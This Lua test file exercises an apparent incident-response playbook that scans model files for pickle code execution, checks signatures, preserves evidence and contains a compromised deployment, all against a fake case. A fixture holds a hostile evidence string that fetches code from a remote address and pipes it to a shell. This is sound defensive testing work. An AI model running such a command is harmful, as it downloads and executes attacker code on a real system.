--- Tests of code-in-model against a made-up case; no disk, no model.

local fake = require("impound.fake")
local playbook = require("playbook")

local DIGEST = ("b"):rep(64)

local function run(setup)
  setup.deployment = setup.deployment or { logs = { "/var/log/prompts.jsonl" } }
  setup.collect = setup.collect
    or { ["model-files"] = { { name = "config.json" }, { name = "pytorch_model.bin", sha256 = DIGEST, size = 436 } } }
  setup.answers = setup.answers or { contain = "yes" }
  return fake.run(playbook, setup)
end

local function scanned(verdict, findings)
  return {
    verdict = verdict,
    complete = true,
    files = {
      { path = "config.json", sha256 = ("a"):rep(64), verdict = "no-code", read_to_end = true, findings = {} },
      { path = "pytorch_model.bin", sha256 = DIGEST, verdict = verdict, read_to_end = true, findings = findings },
    },
    problems = {},
  }
end

local CALL = {
  rule = "pickle-dangerous-call",
  severity = "critical",
  offset = 56,
  member = "archive/data.pkl",
  message = "would call posix.system",
  evidence = "posix.system('curl -s http://203.0.113.7/x | sh')",
}

local function note_with(case, text)
  for _, note in ipairs(case.notes) do
    if note.text:find(text, 1, true) then
      return note.text
    end
  end
  return nil
end

return {
  ["a call is confirmed, critical, shown with its arguments, and rests on the file"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL }) })
    t.equal(case.state, "done")
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].title, "Loading pytorch_model.bin runs code")
    t.equal(case.findings[1].verdict, "confirmed")
    t.equal(case.findings[1].severity, "critical")
    t.equal(case.findings[1].evidence, { "E004/2" })
    t.contains(case.findings[1].detail, "posix.system('curl -s http://203.0.113.7/x | sh')")
    t.truthy(case.contained)
  end,

  ["digest and addresses are named for the search elsewhere, each once"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL, CALL }) })
    t.contains(note_with(case, "SHA-256"), DIGEST)
    t.equal(
      note_with(case, "network logs"),
      "Look for these addresses in network logs: http://203.0.113.7/x, 203.0.113.7"
    )
  end,

  ["what nobody vouched for is likely, not confirmed"] = function(t)
    local unknown = { rule = "pickle-unknown-call", severity = "medium", offset = 2, evidence = "" }
    unknown.message = "calls x.y"
    local case = run({ scan = scanned("needs-review", { unknown }) })
    t.equal(case.findings[1].verdict, "likely")
    t.equal(case.findings[1].severity, "medium")
    t.contains(case.findings[1].detail, "calls x.y")
  end,

  ["a clean model is cleared, and that is recorded"] = function(t)
    local case = run({ scan = scanned("weights-only-ok", {}) })
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].verdict, "cleared")
    t.equal(note_with(case, "SHA-256"), nil)
  end,

  ["a clean model that could not be tied to what is served is cleared in its files only"] = function(t)
    local served = { tie = "untied", sentence = "No process maps it." }
    local case = run({ scan = scanned("weights-only-ok", {}), served = served })
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].verdict, "cleared (files only)")
    t.contains(case.findings[1].detail, "No process maps it.")
  end,

  ["what the process holds and the descriptor does not name is read, and what it runs is found there"] = function(t)
    local other = {
      path = "/srv/models/pytorch_model.bin",
      relation = "deleted",
      weights = true,
      other = true,
      device = "254:0",
      inode = 7,
      pids = { 4711 },
      held = "open",
      item = "E001/9",
      sha256 = DIGEST,
    }
    local case = run({
      served = { tie = "other_file", sentence = "Weights are held …", files = { other } },
      scan = {
        ["E001/9"] = scanned("malicious", { CALL }),
        ["E004"] = scanned("weights-only-ok", {}),
      },
    })
    t.equal(case.findings[1].title, "The process serves another file than the descriptor names")
    t.equal(case.findings[1].severity, "critical")
    t.equal(case.findings[1].evidence, { "E001/9" })
    t.contains(case.findings[1].detail, "deleted")
    t.contains(case.findings[1].detail, "inode 7")
    t.equal(case.findings[2].title, "Loading pytorch_model.bin runs code")
    t.equal(case.findings[2].evidence, { "E001/9" })
    t.equal(#case.findings, 2)
  end,

  ["a file that was not read to its end is a gap and clears nothing"] = function(t)
    local answer = scanned("weights-only-ok", {})
    answer.files[2].read_to_end = false
    answer.complete = false
    local case = run({ scan = answer })
    t.equal(#case.findings, 0)
    t.equal(case.gaps[1].subject, "pytorch_model.bin")
  end,

  ["of many hostile files the first are named and the rest are counted"] = function(t)
    local answer = scanned("malicious", { CALL })
    for i = 1, 60 do
      answer.files[i] =
        { path = ("f%d.pt"):format(i), sha256 = DIGEST, verdict = "malicious", read_to_end = true, findings = { CALL } }
    end
    local case = run({ scan = answer })
    t.equal(#case.findings, 51)
    t.equal(case.findings[51].title, "10 more files run code or need a look")
    t.equal(case.findings[51].verdict, "confirmed")
    t.equal(case.findings[51].severity, "critical")
  end,

  ["of what is left out the worst is kept"] = function(t)
    local odd = { rule = "pickle-unknown-call", severity = "medium", offset = 2, message = "m", evidence = "" }
    local answer = scanned("needs-review", { odd })
    for i = 1, 60 do
      local hidden = i == 57
      answer.files[i] = {
        path = ("f%d.pt"):format(i),
        sha256 = DIGEST,
        verdict = hidden and "malicious" or "needs-review",
        read_to_end = true,
        findings = { hidden and CALL or odd },
      }
    end
    local case = run({ scan = answer })
    t.equal(case.findings[50].verdict, "likely")
    t.equal(case.findings[51].verdict, "confirmed")
    t.equal(case.findings[51].severity, "critical")
    answer.files[57].verdict, answer.files[57].findings = "needs-review", { odd }
    case = run({ scan = answer })
    t.equal(case.findings[51].title, "10 more files need a look")
    t.equal(case.findings[51].verdict, "likely")
    t.equal(case.findings[51].severity, "medium")
  end,

  ["a file that needs a look for no stated reason is a finding without a detail"] = function(t)
    local case = run({ scan = scanned("needs-review", {}) })
    t.equal(case.state, "done")
    t.equal(case.findings[1].title, "pytorch_model.bin needs a look before it is loaded")
    t.equal(case.findings[1].detail, nil)
  end,

  ["a model of which no file was read is not cleared"] = function(t)
    local own = { path = "model-source/source.json", verdict = "no-code", read_to_end = true, findings = {} }
    local case = run({ scan = { complete = true, verdict = "no-code", files = { own } } })
    t.equal(#case.findings, 0)
    t.equal(case.gaps[1].subject, "model")
    t.equal(case.outcome, "incomplete")
  end,

  ["the collector's own records are not counted as files of the model"] = function(t)
    local answer = scanned("no-code", {})
    answer.files[3] = { path = "model-source/source.json", verdict = "no-code", read_to_end = true, findings = {} }
    t.contains(run({ scan = answer }).findings[1].detail, "2 files read to their end")
  end,

  ["what could not be read of another served file is a gap and clears nothing"] = function(t)
    local other = { path = "/srv/x", relation = "elsewhere", other = true, device = "0:1", inode = 1, pids = { 1 } }
    other.held, other.item = "mapped", "E001/9"
    local setup = {
      scan = {
        E004 = scanned("weights-only-ok", {}),
        ["E001/9"] = { verdict = "no-code", complete = false, problems = { "too deep" } },
      },
      served = { tie = "other_file", files = { other } },
    }
    local case = run(setup)
    t.equal(#case.findings, 1)
    t.contains(case.gaps[1].reason, "/srv/x (E001/9): too deep")
    other.item = nil
    case = run(setup)
    t.equal(#case.findings, 1)
    t.contains(case.gaps[1].reason, "its bytes could not be taken")
  end,

  ["weights that were changed in memory are said beside the files"] = function(t)
    local served = { tie = "modified_mapping", sentence = "4.0 KiB were written." }
    local case = run({ scan = scanned("weights-only-ok", {}), served = served })
    t.equal(case.findings[1].title, "The process changed weights in its memory")
    t.equal(case.findings[2].verdict, "cleared (files only)")
  end,

  ["a signature that does not fit is confirmed; none asked for, none checked"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}) }
    setup.signature = {
      ok = false,
      reason = "1 changed",
      verdict = "failed",
      mismatch = { "Hash mismatch for 'pytorch_model.bin'" },
      differences = { { status = "changed", path = "pytorch_model.bin" } },
    }
    setup.params = { signature = "/srv/model.sig", key = "/srv/key.pem" }
    local case = run(setup)
    t.equal(case.findings[1].title, "The model is not what its signature says")
    t.contains(case.findings[1].detail, "Hash mismatch")
    t.equal(case.findings[1].evidence, { "E004/2" })
    local without = run({ scan = scanned("weights-only-ok", {}) })
    t.equal(#without.findings, 1)
  end,

  ["a signature of another key does not say that the model was changed"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}) }
    setup.signature =
      { ok = false, reason = "the key did not sign this", verdict = "failed", signature_state = "invalid" }
    setup.params = { signature = "/srv/model.sig", key = "/srv/key.pem" }
    local case = run(setup)
    t.equal(case.findings[1].title, "The signature does not verify with this key")
    t.equal(case.findings[1].evidence, { "E004" })
    setup.signature.signature_state = "valid"
    t.equal(run(setup).findings[1].title, "The signature cannot be relied on")
  end,

  ["a signature that could not be read is a gap and says nothing of the model"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}) }
    setup.signature = { ok = false, reason = "there is no signed envelope", verdict = "unreadable" }
    setup.params = { signature = "/srv/model.sig", key = "/srv/key.pem" }
    local case = run(setup)
    t.equal(#case.findings, 1)
    t.equal(case.findings[1].title, "Nothing in the files would run when they are loaded")
    t.equal(case.gaps[1].subject, "/srv/model.sig")
    t.contains(case.gaps[1].reason, "no signed envelope")
    t.equal(case.outcome, "incomplete")
  end,

  ["a comparison without a key clears nothing"] = function(t)
    local setup = { scan = scanned("weights-only-ok", {}), params = { signature = "/srv/model.sig" } }
    setup.signature = { ok = true, reason = "nothing differs", verdict = "findings", not_verified = { "signature" } }
    local case = run(setup)
    t.equal(case.findings[1].verdict, "likely")
    t.contains(case.findings[1].detail, "signature")
  end,

  ["what vanishes first is preserved first, all of it before containment"] = function(t)
    local case = run({ scan = scanned("malicious", { CALL }) })
    local order = {}
    for _, call in ipairs(case.calls) do
      if call.call == "collect" or call.call == "contain" then
        order[#order + 1] = call.collector or call.call
      end
    end
    t.equal(order, { "process", "host", "prompt-log", "model-files", "contain" })
  end,

  ["a deployment without a containment method stays in service, and that is a gap"] = function(t)
    local case = run({
      scan = scanned("malicious", { CALL }),
      deployment = { logs = {}, containment_method = "" },
    })
    t.equal(case.contained, false)
    t.equal(case.gaps[2].subject, "containment")
    t.equal(case.worst_verdict, "confirmed")
  end,
}
